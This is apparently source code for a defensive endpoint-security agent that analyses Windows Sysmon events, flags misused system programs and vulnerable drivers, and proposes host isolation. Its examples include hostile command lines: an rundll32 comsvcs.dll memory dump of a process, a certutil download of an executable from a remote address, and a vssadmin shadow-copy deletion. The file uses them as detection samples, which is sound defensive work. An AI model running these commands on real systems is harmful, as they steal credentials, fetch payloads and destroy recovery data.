/** Endpoint security: reads the events of hosts, says which processes, drivers and command lines are an intruder's, and rates each host. */
import { z } from 'zod';
import {
  assessHosts,
  assessHostIndicators,
  checkCommands,
  checkDriverHashes,
  CommandReport,
  createHostWatch,
  DriverReport,
  HostScore,
  IsolationPlan,
  mountedDrivers,
  mountedLolbas,
  type Pace,
  planIsolation,
  ProcessReport,
  toProcessReport,
  whyNoDrivers,
  whyNoLolbas,
} from '../analysis/endpoint/index.ts';
import { openRecording } from '../analysis/recordings/index.ts';
import { conclude } from '../analysis/verdict/index.ts';
import { defineAgent } from '../mesh/index.ts';
import { AnalysisResult, skill, Source, type SkillContext } from '../protocol/index.ts';
import { Origin, threatSkill } from './analyze-threat.ts';

const EVENTS = 'events of Windows as JSON lines or as a binary log (.evtx), also packed';
const EXAMPLE = {
  name: 'events.jsonl',
  text: [
    '{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Hostname":"WS-042","UtcTime":"2026-11-24 09:12:01.100","ProcessGuid":"{1}","ProcessId":"4100","Image":"C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\WINWORD.EXE","CommandLine":"WINWORD.EXE /n invoice.docm","ParentProcessGuid":"{0}","ParentImage":"C:\\\\Windows\\\\explorer.exe","User":"EXAMPLE\\\\reader"}',
    '{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Hostname":"WS-042","UtcTime":"2026-11-24 09:12:09.500","ProcessGuid":"{2}","ProcessId":"4212","Image":"C:\\\\Windows\\\\System32\\\\rundll32.exe","CommandLine":"rundll32.exe C:\\\\Windows\\\\System32\\\\comsvcs.dll, MiniDump 628 C:\\\\Windows\\\\Temp\\\\l.dmp full","ParentProcessGuid":"{1}","ParentImage":"C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\WINWORD.EXE","User":"EXAMPLE\\\\reader"}',
  ].join('\n'),
};

const analyzeTree = skill({
  id: 'analyze_process_tree',
  title: 'Analyze a process tree',
  description:
    'Builds the tree of processes out of events and names the starts and command lines that ordinary work does not show.',
  tags: ['endpoint', 'process', 'sysmon', 'windows'],
  effect: 'read',
  routable: true,
  examples: [{ events: EXAMPLE }],
  params: z.object({ events: Source.describe(EVENTS) }),
  result: AnalysisResult.extend({ processes: ProcessReport }),
});

const checkLolbins = skill({
  id: 'check_lolbins',
  title: 'Check command lines',
  description:
    'Unwraps encoded command lines step by step and names the technique each speaks for, with the rule or the entry that says so; silent where nothing decides.',
  tags: ['endpoint', 'command-line', 'lolbas', 'powershell'],
  effect: 'read',
  routable: true,
  examples: [
    { commands: ['certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe', 'notepad.exe report.txt'] },
  ],
  params: z.object({
    commands: z.array(z.string().min(1).max(65_536)).min(1).max(500),
    origins: z
      .array(Origin)
      .max(500)
      .optional()
      .describe('where each command stands, in the order of commands: what findings cite'),
  }),
  result: AnalysisResult.extend({ commands: z.array(CommandReport) }),
});

const checkDrivers = skill({
  id: 'check_drivers',
  title: 'Check drivers',
  description: 'Looks the hashes of drivers up in the mounted table of vulnerable and malicious ones.',
  tags: ['endpoint', 'driver', 'hash'],
  effect: 'read',
  routable: true,
  examples: [{ drivers: [{ path: 'C:\\Windows\\System32\\drivers\\example.sys', hash: 'a'.repeat(64) }] }],
  params: z.object({
    drivers: z
      .array(
        z.object({
          path: z.string().max(1_024).default(''),
          hash: z.string().regex(/^(?:[0-9a-fA-F]{32}|[0-9a-fA-F]{40}|[0-9a-fA-F]{64})$/),
        }),
      )
      .min(1)
      .max(10_000),
  }),
  result: AnalysisResult.extend({ drivers: z.array(DriverReport) }),
});

const assess = skill({
  id: 'assess_endpoint',
  title: 'Assess endpoints',
  description:
    'Reads the events of one or more hosts and rates each from 0 to 100, with the factors, the findings and the evidence behind them.',
  tags: ['endpoint', 'windows', 'sysmon', 'evtx', 'process', 'persistence', 'credential-access'],
  effect: 'read',
  routable: true,
  examples: [{ events: EXAMPLE }],
  params: z.object({ events: Source.describe(EVENTS) }),
  result: AnalysisResult.extend({ hosts: z.array(HostScore) }),
});

const propose = skill({
  id: 'propose_isolation',
  title: 'Propose isolation',
  description:
    'Says which hosts should be cut off first, what has to be kept before, and what that would break; it does nothing itself.',
  tags: ['endpoint', 'response', 'isolation'],
  effect: 'read',
  routable: true,
  examples: [{ events: EXAMPLE, score_min: 50 }],
  params: z.object({
    events: Source.describe(EVENTS),
    score_min: z.number().int().min(1).max(100).default(50).describe('hosts rated below stay connected'),
    critical_hosts: z
      .array(z.string().min(1).max(255))
      .max(1_000)
      .default([])
      .describe('hosts that a person decides about'),
  }),
  result: AnalysisResult.extend({ plan: z.array(IsolationPlan) }),
});

const threat = threatSkill({
  description: 'Judges command lines, file paths and hashes of drivers among indicators.',
  tags: ['ioc', 'endpoint'],
  example: { type: 'command_line', value: 'vssadmin.exe delete shadows /all /quiet' },
});

/** Reads the events of hosts, and rates each host. */
export const endpointSecurity = defineAgent({
  id: 'endpoint-security',
  name: 'Endpoint security',
  description: 'Reads the events of hosts and says which processes, drivers and command lines are an intruder’s.',
  skills: [
    analyzeTree.implement(async ({ events }, ctx) => {
      const { watch, seen } = await watchHosts(events, ctx);
      const { result, suspicions } = await assessHosts(watch, seen, paceOf(ctx));
      return { ...result, processes: toProcessReport(watch, suspicions) };
    }),
    checkLolbins.implement(({ commands, origins }, { content, progress }) =>
      progress.tool('judge command lines', { count: commands.length }, () => checkCommands(commands, content, origins)),
    ),
    checkDrivers.implement(({ drivers }, { content, progress }) =>
      progress.tool('look drivers up', { count: drivers.length }, () => checkDriverHashes(drivers, content)),
    ),
    assess.implement(async ({ events }, ctx) => {
      const { watch, seen } = await watchHosts(events, ctx);
      return ctx.progress.tool('rate hosts', { events: seen.checked.corpus.sha256 }, async () => {
        const { result, hosts } = await assessHosts(watch, seen, paceOf(ctx));
        return { ...result, hosts };
      });
    }),
    propose.implement(async ({ events, score_min, critical_hosts }, ctx) => {
      const { watch, seen } = await watchHosts(events, ctx);
      const { result, hosts } = await assessHosts(watch, seen, paceOf(ctx));
      const plan = planIsolation(hosts, { score_min, critical_hosts });
      return { ...result, plan };
    }),
    threat.implement(({ iocs }, { content, progress }) =>
      progress.tool('assess host indicators', iocs, () => conclude(assessHostIndicators(iocs, content))),
    ),
  ],
});

const paceOf = ({ progress, signal }: SkillContext): Pace => ({
  signal,
  onProgress: (judged, of) => progress.status(`${judged} of ${of} processes judged`),
});

/** Reads the events once, whatever they lie in, and says what of them was not read. */
async function watchHosts(events: Source, { blobs, content, progress, signal, workers }: SkillContext) {
  const [lolbas, drivers] = [mountedLolbas(content), mountedDrivers(content)];
  const watch = createHostWatch({ lolbas, drivers });
  const recording = openRecording({ name: events.name, bytes: blobs.open(events) }, { workers, signal });
  await progress.tool('read events', { name: events.name }, async () => {
    let read = 0;
    let told = 0;
    for await (const batch of recording.batches) {
      for (const event of batch) watch.note(event);
      read += batch.length;
      if (read - told < PROGRESS_EVENTS) continue;
      told = read;
      progress.status(`${read} events read`);
    }
  });
  const { sha256, items, items_read, unread, unread_count } = recording.report();
  return {
    watch,
    seen: {
      source: events.name,
      checked: {
        question: 'Do the events show an intruder on a host? Items are records.',
        corpus: { sha256, items, items_read },
      },
      not_checked: [
        ...unread.map((gap) => ({ ...gap, mandatory: true })),
        ...(items_read === 0
          ? [{ what: events.name, why: 'it holds no event that can be read', mandatory: true }]
          : []),
        ...(unread_count > unread.length
          ? [{ what: `${unread_count - unread.length} further parts`, why: 'they could not be read', mandatory: true }]
          : []),
        ...(lolbas
          ? []
          : [
              {
                what: 'misused programs of the system by the public table',
                why: whyNoLolbas(content),
              },
            ]),
        ...(drivers ? [] : [{ what: 'drivers by their hash', why: whyNoDrivers(content) }]),
      ],
      data_versions: {
        ...(lolbas && { lolbas: lolbas.version }),
        ...(drivers && { loldrivers: drivers.version }),
      },
    },
  };
}

const PROGRESS_EVENTS = 20_000;
